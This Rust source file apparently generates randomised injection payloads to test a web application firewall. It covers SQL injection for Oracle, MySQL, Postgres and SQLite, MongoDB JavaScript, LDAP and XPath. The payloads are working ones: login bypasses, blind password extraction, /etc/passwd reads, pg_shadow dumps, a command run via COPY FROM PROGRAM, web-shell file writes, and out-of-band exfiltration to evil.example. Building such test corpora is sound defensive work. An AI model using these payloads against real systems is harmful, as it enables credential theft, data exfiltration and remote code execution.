//! Attacks on query languages, in other shapes than queries.rs: other databases, other clauses, other break-outs.

use medward_waf::AttackClass;

use super::super::attack::{AttackGrammar, payload};
use super::super::encode::Encoding;
use super::super::place::Place;
use super::super::rng::Rng;

const SQL: &[Encoding] = &[
    Encoding::Plain,
    Encoding::Percent,
    Encoding::DoublePercent,
    Encoding::PercentU,
    Encoding::Comment,
    Encoding::Case,
    Encoding::Whitespace,
    Encoding::Combined,
    Encoding::Base64,
    Encoding::JsonEscape,
    Encoding::HtmlEntity,
];
/// For payloads whose own spelling is the trick.
const SPELLED: &[Encoding] =
    &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent, Encoding::JsonEscape, Encoding::Base64];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload("sqli-oracle", AttackClass::Sqli, 75, oracle, Place::PARAMETERS, SQL),
    payload("sqli-blind-extraction", AttackClass::Sqli, 90, blind, Place::PARAMETERS, SQL),
    payload("sqli-login-bypass", AttackClass::Sqli, 70, login, Place::INPUTS, SPELLED),
    payload("sqli-respelled", AttackClass::Sqli, 80, respelled, Place::PARAMETERS, SPELLED),
    payload("sqli-postgres-sqlite", AttackClass::Sqli, 70, postgres_sqlite, Place::PARAMETERS, SQL),
    payload("sqli-other-clauses", AttackClass::Sqli, 75, clauses, Place::PARAMETERS, SQL),
    payload(
        "mongo-javascript",
        AttackClass::Sqli,
        40,
        mongo_javascript,
        &[Place::Query, Place::Form, Place::Json, Place::Multipart],
        SPELLED,
    ),
    payload("ldap-blind", AttackClass::Ldap, 40, ldap, Place::INPUTS, SPELLED),
    payload("xpath-axes", AttackClass::Xpath, 40, xpath, Place::INPUTS, SPELLED),
];

fn oracle(rng: &mut Rng) -> Vec<u8> {
    let (word, n) = (rng.letters(5), rng.between(2, 99));
    let secret = rng.pick(&[
        "(SELECT banner FROM v$version WHERE rownum=1)",
        "(SELECT user FROM dual)",
        "(SELECT password FROM sys.user$ WHERE rownum=1)",
        "(SELECT table_name FROM all_tables WHERE rownum=1)",
    ]);
    let quote = rng.pick(&["'", "", "')", "1"]);
    match rng.below(9) {
        0 => format!("{n}{quote} AND 1=CTXSYS.DRITHSX.SN({n},{secret})--"),
        1 => format!("{word}'||UTL_HTTP.REQUEST('http://{word}.evil.example/'||{secret})||'"),
        2 => format!("{n}{quote} AND UTL_INADDR.GET_HOST_ADDRESS({secret}||'.evil.example') IS NOT NULL--"),
        3 => format!("{word}'||DBMS_PIPE.RECEIVE_MESSAGE(CHR({n})||CHR(98),5)||'"),
        4 => format!("{n}{quote} AND {n}=DBMS_UTILITY.SQLID_TO_SQLHASH({secret})--"),
        5 => format!("{n}{quote} AND XMLTYPE('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil.example/'||{secret}||'\">%x;]>') IS NOT NULL--"),
        6 => format!("{n}{quote} UNION SELECT owner||'.'||table_name,NULL FROM all_tables WHERE rownum<{n}--"),
        7 => format!("{word}'||(SELECT CASE WHEN ({n}={n}) THEN TO_CHAR(1/0) ELSE '' END FROM dual)||'"),
        _ => format!("{n}{quote} OR HTTPURITYPE('http://evil.example/{word}').GETCLOB() IS NULL--"),
    }
    .into_bytes()
}

fn blind(rng: &mut Rng) -> Vec<u8> {
    let (n, letter) = (rng.between(1, 32), rng.between(33, 126));
    let secret = rng.pick(&[
        "password",
        "(SELECT password FROM users LIMIT 1)",
        "user()",
        "database()",
        "(SELECT TOP 1 name FROM sysobjects)",
        "(SELECT GROUP_CONCAT(login) FROM admin)",
    ]);
    let (open, close) = rng.pick(&[
        ("1' AND ", "-- -"),
        ("1 AND ", ""),
        ("x' OR ", "#"),
        ("1) AND ", " AND (1=1"),
        ("0\" OR ", "-- "),
        ("' XOR ", " XOR '"),
    ]);
    let condition = match rng.below(11) {
        0 => format!("ASCII(SUBSTRING({secret},{n},1))>{letter}"),
        1 => format!("ORD(MID({secret},{n},1))={letter}"),
        2 => format!("LENGTH({secret})={n}"),
        3 => format!("SUBSTR({secret},{n},1)=CHAR({letter})"),
        4 => format!("{secret} REGEXP '^[a-{}]'", char::from(b'b' + (n % 24) as u8)),
        5 => format!("(CASE WHEN ASCII(RIGHT(LEFT({secret},{n}),1))<{letter} THEN 1 ELSE 0 END)=1"),
        6 => format!("IF(ASCII(SUBSTR({secret},{n},1))&{},1,0)", 1 << (n % 7)),
        7 => format!("STRCMP(LEFT({secret},{n}),0x{})", rng.hex(4)),
        8 => format!("LOCATE(CHAR({letter}),{secret})={n}"),
        9 => format!("HEX(SUBSTRING({secret},{n},1)) LIKE '{}%'", rng.hex(1)),
        _ => format!("FIND_IN_SET('{}',{secret})", rng.letters(1)) + &format!("={n}"),
    };
    format!("{open}{condition}{close}").into_bytes()
}

/// Break-outs that make a login succeed without any keyword that is rare in text.
fn login(rng: &mut Rng) -> Vec<u8> {
    let word = rng.pick(&["admin", "root", "administrator", "sa", "test", "zhangsan"]);
    let n = rng.below(99);
    match rng.below(17) {
        0 => format!("{word}'-- {n}"),
        1 => format!("{word}'#{n}"),
        2 => format!("{word}'/*{n}"),
        3 => format!("'='{}", " ".repeat(n % 5)),
        4 => format!("{word}'='"),
        5 => format!("'-{n}-'"),
        6 => format!("'||{n}||'"),
        7 => format!("{word}'&&'{n}'='{n}"),
        8 => format!("'or true--{n}"),
        9 => format!("{word}') or '{n}'='{n}'--"),
        10 => format!("\\' or {n}={n}-- "),
        11 => format!("{word}' || '{n}'<'{}", n + 1),
        12 => format!("' or ''='{}", " ".repeat(n % 3)),
        13 => format!("'/**/or/**/{n}/**/like/**/{n}#"),
        14 => format!("'^{n}^'"),
        15 => format!("{word}' and '{n}' is not null or 'x"),
        _ => format!("'oR({n})<({})#", n + 3),
    }
    .into_bytes()
}

/// The spellings of tamper scripts: no blanks, versioned comments, numbers that end a word, functions for literals.
fn respelled(rng: &mut Rng) -> Vec<u8> {
    let (n, m, word) = (rng.between(1, 9999), rng.between(2, 9), rng.letters(4));
    let columns = (1..=m)
        .map(|at| if at == 2 { "concat_ws(0x3a,login,password)".to_owned() } else { at.to_string() })
        .collect::<Vec<_>>();
    match rng.below(15) {
        0 => format!("{n}/*!50000union*//*!50000select*/{}/*!50000from*/users", columns.join(",")),
        1 => format!("{n}e0union(select({})from(users))", columns.join("),(")),
        2 => format!("{n}'union(select-1,password,{n}from{{{word} users}})-- "),
        3 => format!("{n}'and({n})=({n})and'{word}'=('{word}"),
        4 => format!("{n}\x0bAND\x0bGREATEST({n},{n})\x0bIN({n})"),
        5 => format!("{n} AND {n} NOT BETWEEN 0 AND {}", n - 1),
        6 => format!("{n}'||'{n}'>='{n}"),
        7 => format!("{n} UnIoN/*{word}*/%53elect {}", columns.join("/**/,/**/")),
        8 => format!("{n}/**_**/or/**_**/{n}=({n})"),
        9 => format!("{n}' or @@version is not null limit 1;\0"),
        10 => format!("{n}.or.{n}=.{n}e1").replace(".or.", ".0or "),
        11 => format!("{n}&&CHAR({},{})=0x{}", 97 + m, 98, hex_pair(m)),
        12 => format!("{n}'||CHR(97)||CHR(98)||(select\npassword\nfrom\nusers\nlimit\n1)||'"),
        13 => format!("{n}'=(select(0)from(select(sleep({m})))v)='"),
        _ => format!("{n}--{word}\nunion--{word}\nselect {}", columns.join(",")),
    }
    .into_bytes()
}

/// Two characters in hexadecimal: the ones beside them in the payload.
fn hex_pair(number: usize) -> String {
    format!("{:02x}62", 97 + number)
}

fn postgres_sqlite(rng: &mut Rng) -> Vec<u8> {
    let (word, n) = (rng.letters(5), rng.between(2, 99));
    let quote = rng.pick(&["'", "", "')", "'))"]);
    match rng.below(11) {
        0 => format!("{n}{quote} AND {n}=CAST((SELECT current_database())::text AS NUMERIC)--"),
        1 => format!("{n}{quote};COPY {word} FROM PROGRAM 'id'--"),
        2 => format!("{n}{quote};CREATE OR REPLACE FUNCTION {word}(int) RETURNS int AS '/lib/libc.so.6','sleep' LANGUAGE 'c' STRICT--"),
        3 => format!("{n}{quote} AND (SELECT COUNT(*) FROM GENERATE_SERIES(1,{n}000000))>0--"),
        4 => format!("{n}{quote} UNION SELECT NULL,string_agg(usename||':'||passwd,','),NULL FROM pg_shadow--"),
        5 => format!("{n}{quote} AND {n}=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({n}00000000/2))))--"),
        6 => format!("{n}{quote} UNION SELECT sql,{n} FROM sqlite_master WHERE type='table'--"),
        7 => format!("{n}{quote};ATTACH DATABASE '/var/www/{word}.php' AS {word};CREATE TABLE {word}.a(b TEXT)--"),
        8 => format!("{n}{quote} UNION SELECT load_extension('\\\\evil.example\\{word}.dll')--"),
        9 => format!("{n}{quote} AND (SELECT query_to_xml('select usename from pg_user',true,true,''))::text LIKE '%{word}%'--"),
        _ => format!("{n}{quote};SELECT lo_export({n},'/tmp/{word}')--"),
    }
    .into_bytes()
}

/// Values that land in ORDER BY, LIMIT, INSERT, a table name, or a file.
fn clauses(rng: &mut Rng) -> Vec<u8> {
    let (word, n) = (rng.letters(5), rng.between(2, 60));
    match rng.below(13) {
        0 => format!("(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE id={n})='a' THEN id ELSE name END)"),
        1 => format!("id,(SELECT * FROM(SELECT(SLEEP({n}))){word})"),
        2 => format!("1' ORDER BY {n}-- -"),
        3 => format!("{n} GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#"),
        4 => format!("{word}',(SELECT password FROM users WHERE id={n}),'x')-- -"),
        5 => format!("{word}', password=MD5('{n}'), role='admin' WHERE login='admin'#"),
        6 => format!("{n} INTO OUTFILE '/var/www/html/{word}.php' LINES TERMINATED BY 0x3c3f706870#"),
        7 => format!("-{n}' UNION SELECT LOAD_FILE('/etc/passwd'),{n}-- -"),
        8 => format!("users WHERE {n}={n} UNION SELECT login,password FROM admin-- "),
        9 => format!("{n} PROCEDURE ANALYSE(1,{n})"),
        10 => format!("{n}' HAVING {n}={n} AND '{word}'<>''-- -"),
        11 => format!("1,IF((SELECT COUNT(*) FROM information_schema.tables)>{n},name,price)"),
        _ => format!("{word}' INTO DUMPFILE '/usr/lib/mysql/plugin/{word}.so'-- -"),
    }
    .into_bytes()
}

fn mongo_javascript(rng: &mut Rng) -> Vec<u8> {
    let (word, n) = (rng.letters(4), rng.between(1, 9));
    match rng.below(9) {
        0 => format!("';return(true);var {word}='"),
        1 => format!("'; while(true){{}};var {word}='"),
        2 => format!("' || this.password.match(/^{word}/) || '{n}'=='"),
        3 => format!("{word}';sleep({n}000);var x='"),
        4 => format!("0;var d=new Date();do{{c=new Date();}}while(c-d<{n}0000)"),
        5 => format!("' && this.{word}.length=={n} && 'a'=='a"),
        6 => format!("{{\"$func\":\"var_dump\",\"$where\":\"function(){{return this.login=='{word}'}}\"}}"),
        7 => format!("{{\"$expr\":{{\"$function\":{{\"body\":\"function(){{sleep({n}000);return true}}\",\"args\":[],\"lang\":\"js\"}}}}}}"),
        _ => format!("true, $where: '{n} == {n}', {word}: 1"),
    }
    .into_bytes()
}

fn ldap(rng: &mut Rng) -> Vec<u8> {
    let (word, letter) = (rng.letters(4), rng.letters(1));
    match rng.below(7) {
        0 => format!("{word})(department=*)(password={letter}*"),
        1 => format!("{word}*)(|(password={letter}*)(password=*))"),
        2 => format!("{word}))(|(memberOf=cn=Domain Admins,dc=*"),
        3 => format!("*)(userAccountControl:1.2.840.113556.1.4.803:=512)(cn={letter}*"),
        4 => format!("{word})(cn=*))\x00(|(a={letter}"),
        5 => format!("{letter}*)(objectCategory=person)(!(uid={word}"),
        _ => format!("{word},dc=x)(|(description=*{letter}*"),
    }
    .into_bytes()
}

fn xpath(rng: &mut Rng) -> Vec<u8> {
    let (word, n) = (rng.letters(4), rng.between(1, 20));
    match rng.below(8) {
        0 => format!("']/following-sibling::*[{n}]|//a['"),
        1 => format!("{word}' and starts-with(name(/*[1]/child::node()[{n}]),'{}') and '1'='1", &word[..1]),
        2 => format!("') or ancestor-or-self::node()[{n}] or contains('{word}','"),
        3 => format!("{word}'] | doc('http://evil.example/{n}') | //x['"),
        4 => format!("' or doc-available(concat('http://evil.example/',//user[{n}]/password)) or '"),
        5 => format!("{word}\" or boolean(//password[{n}]) or \"1\"=\"2"),
        6 => format!("' and count(/descendant::attribute::*)>{n} and '{word}'!='"),
        _ => format!("{n}] | //user[login/text()='{word}' or 1=1"),
    }
    .into_bytes()
}
